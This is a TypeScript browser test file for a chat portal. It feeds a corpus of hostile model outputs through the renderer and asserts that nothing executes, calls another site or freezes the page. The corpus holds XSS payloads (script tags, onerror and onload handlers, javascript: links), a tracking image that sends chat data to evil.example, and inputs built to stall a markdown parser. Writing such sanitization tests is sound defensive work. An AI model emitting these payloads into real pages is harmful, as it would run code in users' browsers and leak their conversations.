import { describe, expect, it } from 'vitest';
import { createScriptedEngine } from '../../server/inference/scripted-engine.ts';
import { startBrowser } from '../testkit/browser.ts';
import { createSession, followBySse, readToEnd, send } from '../testkit/chat.ts';
import { chatPage } from '../testkit/chat-page.ts';
import { startPortal } from '../testkit/portal.ts';
import { patient } from '../testkit/rounds.ts';

const browser = startBrowser();

/** What a model may write, by mistake or because a text told it to. */
const corpus: Record<string, string> = {
  'a script': '<script>window.ran = true; alert(1)</script> after',
  'an image that runs': '<img src=x onerror="window.ran = true"> after',
  'an image that phones home': '![tracker](https://evil.example/pixel.png?chat=secret) after',
  'an image by reference': '![tracker][t]\n\n[t]: https://evil.example/pixel.png\n\nafter',
  'a frame and a style':
    '<iframe src="https://evil.example"></iframe><style>@import "https://evil.example/x.css"</style> after',
  'links that run':
    '[a](javascript:window.ran=true) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x) after',
  'an autolink that runs': '<javascript:window.ran=true> after',
  'an SVG': '<svg onload="window.ran=true"><use href="https://evil.example/x.svg"/></svg> after',
  'broken HTML': '<div><b><a href="//evil.example" onmouseover=alert(1)>x</div> after',
  'a form': '<form action="https://evil.example"><input autofocus onfocus="window.ran=true"></form> after',
  'deep quotes': `${'> '.repeat(3000)}deep\n\nafter`,
  'deep lists': `${Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')}\n\nafter`,
  'open emphasis': `${'*a_ '.repeat(9750)}\n\nafter`,
  'open brackets': `${'['.repeat(20_000)} after`,
  'nested links': `${'[a]('.repeat(5000)} after`,
  backticks: `${'`'.repeat(20_001)} after`,
  'a huge table': `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n${`|${'b|'.repeat(200)}\n`.repeat(100)}\nafter`,
  'a word without end': `${'x'.repeat(100_000)} after`,
  'math that is money': 'It costs $5 and $10, or $$20. after',
};

describe('what a model writes', () => {
  it.each(Object.entries(corpus))('%s runs nothing, phones nowhere, freezes nothing', async (_name, text) => {
    const { url } = await startPortal({
      engine: createScriptedEngine({ script: () => text, contextLength: 200_000 }),
      env: { MAX_TOKENS: '8192' },
    });
    const sessionId = await createSession(url, { title: text.slice(0, 200) });
    const { reply } = await send(url, sessionId, text.slice(0, 20_000));
    const { message } = await readToEnd(followBySse(url, reply.id));

    const page = await browser.open('about:blank');
    const elsewhere: string[] = [];
    const dialogs: string[] = [];
    const broken: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(url) && !request.url().startsWith('about:')) elsewhere.push(request.url());
    });
    page.on('dialog', async (dialog) => {
      dialogs.push(dialog.message());
      await dialog.dismiss();
    });
    page.on('pageerror', (error) => broken.push(error.message));
    await page.addInitScript(() => {
      const longest = { ms: 0 };
      Object.assign(window, { longest });
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) longest.ms = Math.max(longest.ms, entry.duration);
      }).observe({ type: 'longtask', buffered: true });
    });
    await page.goto(`${url}/c/${sessionId}`);
    await chatPage(page).answers.last().waitFor();
    await expect.poll(() => chatPage(page).lastAnswerText()).toContain(message.content.trimEnd().slice(-5));
    const { ran, ms } = await page.evaluate(() => {
      const { ran, longest } = window as unknown as { ran?: boolean; longest: { ms: number } };
      return { ran: ran ?? false, ms: longest.ms };
    });
    expect({ ran, dialogs, elsewhere, broken }).toEqual({ ran: false, dialogs: [], elsewhere: [], broken: [] });
    console.log(`longest task ${Math.round(ms)} ms`);
    expect(ms).toBeLessThan(patient(500));
    const images = await page.locator('[role=log] img, [role=log] iframe, [role=log] form').count();
    expect(images).toBe(0);
    const links = await page
      .locator('[role=log] article a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
    expect(links.filter((href) => !/^(https?:|mailto:|\/)/.test(href))).toEqual([]);
  });
});
